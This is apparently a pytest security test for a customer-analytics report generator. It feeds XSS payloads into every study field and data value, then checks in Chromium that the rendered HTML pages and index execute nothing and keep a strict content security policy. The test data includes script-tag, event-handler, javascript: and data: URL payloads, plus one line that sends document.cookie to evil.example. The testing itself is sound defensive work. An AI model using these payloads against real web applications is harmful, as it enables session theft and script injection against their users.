"""Report pages are safe to open whatever a study brings (issue 14, case 1), in a real browser.

A small study whose every free-text field and data value is a script or an
event-handler payload is run through the runner (notebooks 00, 01, 02, 04 and 05 on
600 simulated customers): the study title and description, customer ids,
transaction and acquisition channels, the channel arms of the channel-outcomes
CSV (one of them leaks the cookie to evil.example), the recency groups the lift
is split by, purchase categories, complaint categories and resolutions, loyalty
tiers, column names and the control-arm parameter. Every page, opened from disk
in Chromium, must open no dialog, raise no error (a script blocked by the policy
would log one), request nothing outside the report folder, and carry no
``<script>`` but its own, no ``on*=`` attribute, no ``javascript:`` link and no
SVG, iframe or object element; the payloads are shown as text. The pages' policy
has no ``'unsafe-inline'``.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
import yaml
from browser_cases import NEEDS_CHROMIUM, Visit, browser  # noqa: F401 - browser is a fixture

pytestmark = [pytest.mark.slow, NEEDS_CHROMIUM]

NOTEBOOKS = ("00_data_overview", "01_segmentation", "02_clv", "04_channel_comparison", "05_retention_loyalty")
LEAK = "<script>location.href='https://evil.example/leak?'+document.cookie</script>"
SVG = "<svg onload=alert(1)>"
ARMS = {"control": SVG, "email": LEAK, "email_discount": "<img src=x onerror=alert('arm')>"}
CHANNELS = {"store": "<script>alert('store')</script>", "web": "<img src=x onerror=alert('web')>",
            "app": "[app](javascript:alert('app'))", "phone": "<iframe src=javascript:alert('phone')>",
            "partner": "<a href=javascript:alert('partner')>partner</a>"}
GROUPS = {"lapsed": "<b onmouseover=alert('grp')>lapsed</b>", "recent": "<style>*{display:none}</style>recent"}
ID_COLUMN = "Kunde<script>alert('col')</script>"
REGION_COLUMN = "<img src=x onerror=alert('region')>"
CATEGORY = "<img src=x onerror=alert('category')>"  # prefixed to each purchase category
COMPLAINT = "<script>alert('complaint')</script>"  # prefixed to each complaint category
TIERS = {"base": "<b onclick=alert('tier')>base</b>", "silver": "[silver](javascript:alert('tier'))",
         "gold": "<iframe src=javascript:alert('gold')>"}
STUDY = {
    "name": "payload",
    "title": "<script>alert(1)</script>",
    "description": "Evil [x](javascript:alert(1)) and <img src=x onerror=alert(1)> and "
                   "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) **still Markdown**",
    "data": {
        "transactions": {"path": "payload_data/transactions.csv", "columns": {"customer_id": ID_COLUMN}},
        "customers": {"path": "payload_data/customers.csv"},
        "channel_outcomes": {"path": "payload_data/channel_outcomes.csv"},
        "complaints": {"path": "payload_data/complaints.csv"},
        "memberships": {"path": "payload_data/memberships.csv"},
    },
    "notebooks": {
        "00_data_overview": {},
        "01_segmentation": {"k_range": [2, 3], "n_gap_refs": 0, "n_boot": 3, "selection_sample": 400,
                            "stability_sample": 300},
        "02_clv": {"models": ["BetaGeo"]},
        "04_channel_comparison": {"control_arm": SVG, "n_bootstrap": 10, "clv_horizon_weeks": 52},
        "05_retention_loyalty": {"n_bootstrap": 10, "good_resolutions": ["<b>good</b>"],
                                 "value_added_categories": [f"{CATEGORY}support plan"]},
    },
}


def _payload_tables() -> dict:
    from analysis.datasets import load_dataset

    tables = load_dataset("service_demo", n_customers=600, seed=7)
    ids = {c: f"{c}<img src=x onerror=alert('id')>" for c in tables["customers"]["customer_id"]}
    tx = tables["transactions"].assign(customer_id=lambda d: d["customer_id"].map(ids),
                                       channel=lambda d: d["channel"].map(CHANNELS),
                                       category=lambda d: CATEGORY + d["category"].astype(str))
    complaints = tables["complaints"].assign(
        customer_id=lambda d: d["customer_id"].map(ids), category=lambda d: COMPLAINT + d["category"].astype(str),
        channel=lambda d: d["channel"].map(CHANNELS), resolution=lambda d: "<b>" + d["resolution"] + "</b>")
    memberships = tables["memberships"].assign(customer_id=lambda d: d["customer_id"].map(ids),
                                               tier=lambda d: d["tier"].map(TIERS))
    customers = tables["customers"].assign(customer_id=lambda d: d["customer_id"].map(ids),
                                           acquisition_channel=lambda d: d["acquisition_channel"].map(CHANNELS))
    outcomes = tables["channel_outcomes"].assign(
        customer_id=lambda d: d["customer_id"].map(ids), channel=lambda d: d["channel"].map(ARMS),
        acquisition_channel=lambda d: d["acquisition_channel"].map(CHANNELS),
        recency_group=lambda d: d["recency_group"].map(GROUPS))
    return {"transactions": tx.rename(columns={"customer_id": ID_COLUMN}),
            "customers": customers.rename(columns={"region": REGION_COLUMN}),
            "channel_outcomes": outcomes, "complaints": complaints, "memberships": memberships}


@pytest.fixture(scope="module")
def site(tmp_path_factory, project_root) -> Path:
    """The payload study run as `analysis run` does, and its index."""
    from analysis.report.index import build_index
    from analysis.report.runner import plan_runs, run_plans
    from analysis.study import load_study

    root = tmp_path_factory.mktemp("payload_site")
    data = root / "params" / "payload_data"
    data.mkdir(parents=True)
    (root / "notebooks").mkdir()
    for name in NOTEBOOKS:
        shutil.copy(project_root / "notebooks" / f"{name}.ipynb", root / "notebooks")
    for name, frame in _payload_tables().items():
        frame.to_csv(data / f"{name}.csv", index=False)
    study = root / "params" / "payload.yaml"
    study.write_text(yaml.safe_dump(STUDY, allow_unicode=True, sort_keys=False), encoding="utf-8")
    reports = root / "reports"
    results = run_plans(plan_runs([load_study(study)]), reports_dir=reports)
    assert [(r.notebook, r.status) for r in results] == [(n, "ok") for n in NOTEBOOKS], [r.error for r in results]
    build_index(reports)
    return reports


def _own_script(text: str) -> bool:
    return 'getElementById("toggle-code")' in text


@pytest.mark.parametrize("notebook", NOTEBOOKS)
def test_notebook_page_runs_nothing_the_study_brought(browser, site, notebook):
    visit = Visit(browser, (site / "payload" / f"{notebook}.html").as_uri(), ("file://", "data:"))
    page = visit.page
    page.evaluate("""() => document.querySelectorAll('main *').forEach(e => ['mouseover', 'click', 'focus']
        .forEach(type => e.dispatchEvent(new Event(type))))""")  # a surviving on* handler would fire now
    page.wait_for_timeout(100)
    visit.clean()
    scripts = page.eval_on_selector_all("script", "els => els.map(e => e.src + '|' + e.textContent)")
    assert len(scripts) == 1 and scripts[0].startswith("|") and _own_script(scripts[0]), scripts
    handlers = page.eval_on_selector_all("*", """els => els.flatMap(e => [...e.attributes]
        .filter(a => a.name.toLowerCase().startsWith('on')).map(a => e.tagName + ' ' + a.name))""")
    assert handlers == []
    links = page.eval_on_selector_all("[href], [src], [action], [formaction]", """els => els.flatMap(e =>
        ['href', 'src', 'action', 'formaction'].map(k => e.getAttribute(k)).filter(v => v !== null))""")
    assert not [u for u in links if re.match(r"\s*(javascript|vbscript|data:text)", u, re.IGNORECASE)], links
    assert page.locator("main :is(svg, iframe, object, embed, form, style, base)").count() == 0
    assert page.evaluate("() => getComputedStyle(document.querySelector('main')).display") != "none"
    text = page.locator("main").inner_text()
    if notebook == "00_data_overview":
        assert "<script>alert(1)</script>" in text  # the title, as text
        assert "still Markdown" in text and page.locator("main strong", has_text="still Markdown").count() == 1
        assert re.search(r"C\d{5}<img src=x onerror=alert\('id'\)>", text)  # customer ids, largest customers
    if notebook == "04_channel_comparison":
        assert "<script>location.href=" in text and SVG in text  # arm names in the sentences and tables
    if notebook == "05_retention_loyalty":
        assert COMPLAINT in text and CATEGORY in text  # complaint and purchase categories, as text
    button = page.locator("#toggle-code")  # the page's own script still works
    button.click()
    assert button.inner_text() == "Hide code"
    page.close()


def test_every_page_has_a_policy_without_unsafe_inline(site):
    pages = sorted(site.glob("payload/*.html"))
    assert [p.stem for p in pages] == list(NOTEBOOKS)
    for path in pages:
        policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"',
                              path.read_text(encoding="utf-8"))
        assert len(policies) == 1, path.name
        assert "'unsafe-inline'" not in policies[0] and "'unsafe-eval'" not in policies[0], (path.name, policies)
        assert "default-src 'none'" in policies[0] and "'sha256-" in policies[0]


def test_index_runs_nothing_the_study_brought(browser, site):
    visit = Visit(browser, (site / "index.html").as_uri(), ("file://", "data:"))
    visit.clean()
    assert visit.page.eval_on_selector_all("script", "els => els.length") == 0
    assert "<script>alert(1)</script>" in visit.page.locator("body").inner_text()  # the title, as text
    visit.page.close()


def test_index_policy_has_no_unsafe_inline(site):
    policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"',
                          (site / "index.html").read_text(encoding="utf-8"))
    assert len(policies) == 1 and "'unsafe-inline'" not in policies[0], policies
